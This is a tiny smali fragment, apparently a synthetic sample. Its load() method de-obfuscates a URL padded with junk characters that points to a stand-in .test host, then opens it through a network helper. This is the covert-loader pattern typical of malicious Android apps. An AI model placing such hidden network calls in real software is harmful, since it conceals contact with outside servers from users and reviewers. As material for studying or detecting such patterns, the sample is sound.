.class public Lj1/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "httQ7ps:Q7//jQ7unkQ7.shQ7op.Q7tesQ7t/vQ71/nQ7oisQ7e"
    invoke-static {v0}, Lj1/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lj1/Net;->open(Ljava/lang/String;)V
    return-void
.end method

